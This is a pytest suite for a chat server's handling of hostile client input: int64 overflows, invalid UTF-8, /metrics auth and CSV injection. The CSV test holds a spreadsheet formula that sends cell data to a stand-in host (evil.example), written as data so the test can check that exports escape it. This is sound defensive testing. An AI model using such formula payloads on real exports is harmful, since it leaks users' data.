"""What a hostile or broken client finds at the edges: bad positions, bad bytes, CSV formulas,
an open /metrics. Each runs on a real server, on both backends where the store is involved."""

from __future__ import annotations

import csv
import io
import logging
from collections.abc import Iterator

import httpx
import pytest
from websockets.exceptions import ConnectionClosed

from chatserver.domain import protocol as p
from chatserver.store.ports import StoreUnavailable
from tests.conftest import Server, ServerFactory

INT64_MAX = 2**63 - 1


async def login(server: Server, agent_id: str, role: str = "agent") -> str:
    await server.hub.accounts.add(agent_id, agent_id.title(), "pw-" + agent_id, role=role)  # type: ignore[arg-type]
    async with httpx.AsyncClient(base_url=server.url) as client:
        reply = await client.post(
            "/api/login", json={"username": agent_id, "password": "pw-" + agent_id}
        )
    assert reply.status_code == 200, reply.text
    return str(reply.json()["token"])


async def closed_with(client_ws: object) -> tuple[int | None, str]:
    """Wait for the server to close a socket; its close code and reason."""
    ws = client_ws  # a websockets ClientConnection
    try:
        while True:
            await ws.recv()  # type: ignore[attr-defined]
    except ConnectionClosed as closed:
        frame = closed.rcvd
        return (frame.code, frame.reason) if frame is not None else (None, "")


# --- item 11: positions beyond int64 or beyond the log -----------------------------------------


@pytest.mark.parametrize("value", [str(INT64_MAX + 1), "1" + "0" * 400], ids=["2^63", "10^400"])
async def test_a_last_seq_beyond_int64_is_refused_with_a_clear_error(
    server: Server, value: str
) -> None:
    shopper = await server.raw("/ws/shopper", origin=server.settings.base_url)
    await shopper.send(f'{{"type": "hello", "version": {p.PROTOCOL_VERSION}, "last_seq": {value}}}')
    error = await shopper.expect("error", frame_type="hello")
    assert error["code"] == "invalid_frame" and "last_seq" in error["message"]
    agent = await server.raw("/ws/agent")
    await agent.send(
        f'{{"type": "hello", "version": {p.PROTOCOL_VERSION}, "last_seqs": {{"c-1": {value}}}}}'
    )
    error = await agent.expect("error", frame_type="hello")
    assert "last_seqs.c-1" in error["message"]
    # The sockets still work: a proper hello is welcomed.
    await shopper.send(p.Hello(version=p.PROTOCOL_VERSION))
    await shopper.expect("welcome")


async def test_a_last_seq_beyond_the_log_is_clamped_and_live_events_still_arrive(
    server: Server,
) -> None:
    shopper = await server.shopper()
    await shopper.send(p.SendMessage(client_id="m1", text="hello?"))
    ack = await shopper.expect("ack", client_id="m1")
    alice = await server.agent("alice", capacity=1)
    conversation_id = ack["conversation_id"]
    await alice.expect("conversation_assigned", conversation_id=conversation_id)
    token = shopper.received[0]["token"]
    await shopper.close()

    again = await server.shopper(token=token, last_seq=INT64_MAX)
    error = await again.expect("error", frame_type="hello")
    assert "beyond the end" in error["message"]
    await alice.send(p.SendMessage(conversation_id=conversation_id, client_id="a1", text="Hi!"))
    posted = await again.expect("message_posted", text="Hi!")
    assert posted["seq"] < 100
    # An agent claiming too much on its own chat also gets live events again.
    await alice.close()
    back = await server.agent("alice", capacity=1, last_seqs={conversation_id: 10**12})
    await back.expect("error", frame_type="hello")
    await again.send(p.SendMessage(client_id="m2", text="still there?"))
    await back.expect("message_posted", text="still there?")


# --- item 12: invalid UTF-8 ---------------------------------------------------------------------


class Recorder(logging.Handler):
    """Keeps the records of a logger that does not propagate to the root (uvicorn's)."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@pytest.fixture
def uvicorn_log() -> Iterator[Recorder]:
    recorder, logger = Recorder(), logging.getLogger("uvicorn.error")
    logger.addHandler(recorder)
    yield recorder
    logger.removeHandler(recorder)


async def test_invalid_utf8_closes_1007_without_a_traceback(
    server: Server, caplog: pytest.LogCaptureFixture, uvicorn_log: Recorder
) -> None:
    caplog.set_level(logging.INFO)
    shopper = await server.shopper()
    await shopper.ws.send(b'{"type": "typing", "x": "\xff\xfe"}', text=True)
    code, _ = await closed_with(shopper.ws)
    assert code == 1007
    # The server carries on, and logged no traceback for it.
    other = await server.shopper()
    await other.send(p.SendMessage(client_id="m1", text="fine"))
    await other.expect("ack", client_id="m1")
    records = caplog.records + uvicorn_log.records
    assert any("Invalid UTF-8" in r.getMessage() for r in records)
    assert not [r for r in records if r.exc_info], [r.getMessage() for r in records]


# --- item 16: CSV injection ---------------------------------------------------------------------


async def test_formulas_in_comments_and_tags_reach_csv_as_text(server: Server) -> None:
    token = await login(server, "mona", "manager")
    shopper = await server.shopper()
    await shopper.send(p.SendMessage(client_id="m1", text="hello"))
    conversation_id = (await shopper.expect("ack", client_id="m1"))["conversation_id"]
    alice = await server.agent("alice", capacity=1)
    await alice.expect("conversation_assigned", conversation_id=conversation_id)
    await alice.send(p.SetTags(conversation_id=conversation_id, tags=["+sum(a1:a9)", "@cmd"]))
    await alice.expect("tags_changed")
    await alice.send(p.CloseConversation(conversation_id=conversation_id))
    await shopper.expect("conversation_closed")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    await shopper.send(p.Rate(score=1, comment=formula))
    await shopper.expect("rating_given")

    headers = {"Authorization": f"Bearer {token}"}
    async with httpx.AsyncClient(base_url=server.url, headers=headers) as client:
        comments = (await client.get("/api/reports/comments.csv")).text
        tags = (await client.get("/api/reports/tags.csv")).text
    comment_cells = [row[3] for row in csv.reader(io.StringIO(comments))][1:]
    assert comment_cells == ["'" + formula]
    tag_cells = sorted(row[0] for row in csv.reader(io.StringIO(tags)))[:-1]
    assert tag_cells == ["'+sum(a1:a9)", "'@cmd"]


# --- item 17: /metrics --------------------------------------------------------------------------


async def test_metrics_ask_for_the_bearer_token_when_one_is_set(
    start_server: ServerFactory,
) -> None:
    server = await start_server(metrics_token="scrape-me")
    async with httpx.AsyncClient(base_url=server.url) as client:
        assert (await client.get("/metrics")).status_code == 401
        wrong = await client.get("/metrics", headers={"Authorization": "Bearer nope"})
        assert wrong.status_code == 401
        ok = await client.get("/metrics", headers={"Authorization": "Bearer scrape-me"})
        assert ok.status_code == 200 and "chat_queue_length" in ok.text


async def test_metrics_without_a_token_stay_open_and_the_start_says_so(
    start_server: ServerFactory, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING)
    server = await start_server()
    async with httpx.AsyncClient(base_url=server.url) as client:
        assert (await client.get("/metrics")).status_code == 200
    assert any("/metrics is open" in r.getMessage() for r in caplog.records)


async def test_a_store_error_while_catching_up_closes_the_socket_to_resume_later(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    shopper = await server.shopper()
    await shopper.send(p.SendMessage(client_id="m1", text="hello"))
    await shopper.expect("ack", client_id="m1")
    token = shopper.received[0]["token"]
    read = server.hub.store.log.read

    async def failing(conversation_id: str, after_seq: int = 0) -> list[tuple[int, str]]:
        if after_seq == 1:  # the session's catch-up after the claimed seq 1
            raise StoreUnavailable("stream read failed")
        return await read(conversation_id, after_seq)

    monkeypatch.setattr(server.hub.store.log, "read", failing)
    again = await server.shopper(token=token, last_seq=1)
    code, _ = await closed_with(again.ws)
    assert code == 1013  # try again later: the client reconnects and resumes from its seq
